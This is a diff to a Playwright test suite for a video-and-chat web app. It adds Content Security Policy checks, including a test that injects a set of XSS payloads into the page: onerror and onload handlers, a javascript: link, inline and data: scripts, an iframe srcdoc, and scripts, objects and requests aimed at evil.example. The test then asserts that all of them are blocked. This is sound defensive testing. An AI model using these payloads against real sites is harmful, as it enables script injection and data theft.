@@ -110,16 +110,19 @@ def page(chromium: Any) -> Iterator[Any]:
     context.set_default_timeout(SECONDS * 1000)
     opened = context.new_page()
     opened.errors = []
+    opened.refused = []
     opened.on("pageerror", lambda error: opened.errors.append(str(error)))
+    opened.on("console", lambda said: opened.refused.append(said.text) if "Security Policy" in said.text else None)
     yield opened
     assert opened.errors == []
+    assert opened.refused == [], "the policy refuses something that the app needs"
     context.close()
 
 
 def watch(page: Any, server: Server) -> None:
     page.goto(f"{server.address}/watch?video={server.sha256}")
     page.wait_for_selector(BARS)
-    page.wait_for_function("document.querySelector('[data-testid=stChatInputTextArea]:not([disabled])')")
+    page.locator("[data-testid=stChatInputTextArea]:not([disabled])").wait_for()
     video(page, "v => v.readyState >= 1")
 
 
@@ -156,7 +159,7 @@ def test_a_video_goes_in_and_an_answer_points_at_its_moment(page, app):
         pytest.skip("there is no sample video yet")
     upload(page, app, sample)
     page.wait_for_selector(BARS)
-    page.wait_for_function("document.querySelector('[data-testid=stChatInputTextArea]:not([disabled])')")
+    page.locator("[data-testid=stChatInputTextArea]:not([disabled])").wait_for()
     ask(page, "What happens in this video?")
     chip = page.locator("[data-testid=stChatMessage] a[href^='#t=']").last
     chip.wait_for()
@@ -308,6 +311,45 @@ def test_nothing_is_asked_of_any_other_machine(page, desk):
     page.goto(desk.address)
     page.locator(".shelf .title").first.wait_for()
     assert [url for url in asked if not url.startswith((desk.address, "data:", "blob:"))] == []
+
+
+def test_every_page_works_under_the_policy(page, desk):
+    for path in ("", "watch", "search", "summaries", "labels", "models", "settings"):
+        page.goto(f"{desk.address}/{path}?video={desk.sha256}")
+        page.locator(".shelf .title").first.wait_for()
+        page.locator("h1, h3").first.wait_for()
+    assert page.refused == []
+
+
+INJECTED = """() => {
+    const add = (tag, set) => document.body.append(Object.assign(document.createElement(tag), set));
+    document.body.insertAdjacentHTML("beforeend", "<img src=x onerror='window.hacked=1'><svg onload='hacked=1'>");
+    document.body.insertAdjacentHTML("beforeend", "<a id=lure href='javascript:window.hacked=1'>x</a>");
+    document.getElementById("lure").click();
+    add("script", { textContent: "window.hacked = 1" });
+    add("script", { src: "https://evil.example/a.js" });
+    add("script", { src: "data:text/javascript,window.hacked=1" });
+    add("iframe", { srcdoc: "<script>parent.hacked = 1</script>" });
+    add("object", { data: "https://evil.example/a" });
+    add("base", { href: "https://evil.example/" });
+    add("img", { src: "https://evil.example/a.png" });
+    fetch("https://evil.example/").catch(() => {});
+    setTimeout("window.hacked = 1");
+}"""
+
+
+def test_markup_that_got_in_after_all_runs_no_script_and_reaches_nobody(page, desk):
+    watch(page, desk)
+    left: list[str] = []
+    page.context.on("requestfinished", lambda request: left.append(request.url))
+    page.evaluate(INJECTED)
+    page.wait_for_timeout(1500)
+    assert page.evaluate("window.hacked === undefined")
+    assert page.evaluate("document.baseURI").startswith(desk.address)
+    assert [url for url in left if "evil.example" in url] == []
+    assert len(page.refused) >= 8
+    page.refused.clear()
+    page.errors.clear()
 
 
 def test_a_phone_shows_one_lane_and_never_scrolls_sideways(chromium, desk):
